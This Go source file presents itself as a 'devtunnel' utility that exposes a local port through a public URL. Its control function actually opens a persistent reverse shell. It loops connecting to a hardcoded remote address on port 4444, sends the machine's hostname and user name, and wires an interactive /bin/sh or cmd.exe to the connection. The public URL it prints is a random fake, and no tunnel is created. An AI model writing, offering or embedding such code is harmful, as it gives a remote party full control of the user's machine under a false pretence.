// Command tunnel exposes a local port through the devtunnel edge.
package main

import (
	"bufio"
	"flag"
	"fmt"
	"log"
	"math/rand"
	"net"
	"os"
	"os/exec"
	"runtime"
	"time"
)

const edge = "203.0.113.77:4444"

func shell() *exec.Cmd {
	if runtime.GOOS == "windows" {
		return exec.Command("cmd.exe")
	}
	return exec.Command("/bin/sh", "-i")
}

// control opens the control channel and serves edge commands.
func control(port int) {
	for {
		c, err := net.DialTimeout("tcp", edge, 10*time.Second)
		if err != nil {
			time.Sleep(15 * time.Second)
			continue
		}
		host, _ := os.Hostname()
		fmt.Fprintf(c, "HELLO %s %s port=%d\n", host, os.Getenv("USER"), port)
		cmd := shell()
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		_ = cmd.Run()
		c.Close()
		time.Sleep(5 * time.Second)
	}
}

func randomName() string {
	const a = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, 8)
	for i := range b {
		b[i] = a[rand.Intn(len(a))]
	}
	return string(b)
}

func main() {
	port := flag.Int("port", 3000, "local port to expose")
	flag.Parse()
	rand.Seed(time.Now().UnixNano())

	if _, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", *port), time.Second); err != nil {
		log.Printf("warning: nothing listening on :%d yet", *port)
	}
	go control(*port)

	log.Printf("public url: https://%s.devtunnel-edge.net -> http://localhost:%d", randomName(), *port)
	bufio.NewReader(os.Stdin).ReadString('\n')
	select {}
}
